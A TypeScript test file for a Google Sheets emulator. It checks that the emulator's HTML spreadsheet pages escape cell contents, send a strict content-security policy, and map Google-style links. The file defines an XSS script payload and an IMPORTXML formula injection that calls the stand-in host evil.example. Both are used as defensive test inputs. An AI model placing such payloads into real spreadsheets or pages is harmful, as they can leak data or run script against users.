import { startGoogleEmulator, type GoogleEmulator } from './google-emulator';

const SCRIPT = '<script>alert(1)</script>';
const FORMULA = '=IMPORTXML("http://evil.example","//a")';

let g: GoogleEmulator;
let token: string;

async function api(path: string, body: unknown): Promise<Record<string, unknown>> {
  const res = await fetch(`${g.url}${path}`, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
    body: JSON.stringify(body),
  });
  expect(res.status).toBe(200);
  return (await res.json()) as Record<string, unknown>;
}

async function page(path: string) {
  const res = await fetch(`${g.url}${path}`, { headers: { accept: 'text/html' } });
  return { status: res.status, headers: res.headers, text: await res.text() };
}

beforeAll(async () => {
  g = await startGoogleEmulator();
});

afterAll(() => g.close());

beforeEach(() => {
  g.reset();
  token = g.issueTokens().access_token;
});

describe('spreadsheet pages', () => {
  it('renders each tab of a spreadsheet made over the API as a table, escaped', async () => {
    const created = await api('/v4/spreadsheets', {
      properties: { title: `Payments ${SCRIPT}` },
      sheets: [{ properties: { title: 'Sheet1' } }, { properties: { title: 'Refunds' } }],
    });
    const id = created.spreadsheetId as string;
    const append = (range: string, values: unknown[][]) =>
      api(
        `/v4/spreadsheets/${id}/values/${encodeURIComponent(range)}:append?valueInputOption=USER_ENTERED`,
        { values },
      );
    await append('Sheet1!A:D', [
      ['order_id', 'amount', 'note', 'paid'],
      ['order-1', '1500.50', SCRIPT, 'TRUE'],
      ['order-2', '42', FORMULA],
    ]);
    await append('Refunds!A:B', [['order-1', '-100']]);
    const formatted = await fetch(
      `${g.url}/v4/spreadsheets/${id}/values/${encodeURIComponent('Sheet1!A2:D3')}`,
      { headers: { authorization: `Bearer ${token}` } },
    );
    expect(((await formatted.json()) as { values: unknown[][] }).values).toEqual([
      ['order-1', '1500.5', SCRIPT, 'TRUE'],
      ['order-2', '42', '#N/A'],
    ]);

    const index = await page('/_emulator/ui');
    expect(index.status).toBe(200);
    expect(index.text).toContain(`href="/_emulator/ui/spreadsheets/${id}"`);
    expect(index.text).toContain('Payments &#60;script&#62;');
    expect(index.text).toContain('Refunds (1 rows)');

    const sheet = await page(`/_emulator/ui/spreadsheets/${id}`);
    expect(sheet.status).toBe(200);
    expect(sheet.headers.get('content-type')).toBe('text/html; charset=utf-8');
    expect(sheet.headers.get('content-security-policy')).toContain("default-src 'none'");
    expect(sheet.text).toContain('SANDBOX');
    expect(sheet.text).toContain('<th>A</th><th>B</th><th>C</th><th>D</th>');
    expect(sheet.text).toContain('<td title="order-1">order-1</td>');
    expect(sheet.text).toContain('<td title="1500.5 (number)">1500.5</td>');
    expect(sheet.text).toContain('<td title="true (boolean)">TRUE</td>');
    const escapedScript = '&#60;script&#62;alert(1)&#60;/script&#62;';
    expect(sheet.text).toContain(`<td title="${escapedScript}">${escapedScript}</td>`);
    const escapedFormula = '=IMPORTXML(&#34;http://evil.example&#34;,&#34;//a&#34;)';
    // USER_ENTERED made it a formula: the page shows what Sheets would (#N/A), the formula on hover.
    expect(sheet.text).toContain(`<td title="${escapedFormula}">#N/A</td>`);
    expect(sheet.text).toContain('Refunds');
    expect(sheet.text).toContain('<td title="-100 (number)">-100</td>');
    expect(sheet.text).not.toContain('<script>');
  });

  it('links the index from the root and answers 404 for an unknown spreadsheet', async () => {
    const root = await page('/');
    expect(root.status).toBe(200);
    expect(root.text).toContain('href="/_emulator/ui"');
    expect((await page('/_emulator/ui')).text).toContain('No spreadsheets yet.');
    expect((await page('/_emulator/ui/spreadsheets/nope')).status).toBe(404);
  });

  it('is not API traffic: not counted and not faulted', async () => {
    g.injectFaults({ status: 500, count: 5 });
    expect((await page('/_emulator/ui')).status).toBe(200);
    expect((await page('/')).status).toBe(200);
    expect(g.counters().requests).toBe(0);
  });

  it('a row link as Google spells it (/spreadsheets/d/<id>/edit) opens that spreadsheet', async () => {
    const ss = g.createSpreadsheet({
      title: 'Payments',
      sheets: [{ title: 'Orders', header: ['Order'], rows: [['ord-77']] }],
    });
    const found = await page(`/spreadsheets/d/${ss.spreadsheetId}/edit`);
    expect(found.status).toBe(200);
    expect(found.text).toContain('ord-77');
    expect((await page('/spreadsheets/d/nope/edit')).status).toBe(404);
  });
});
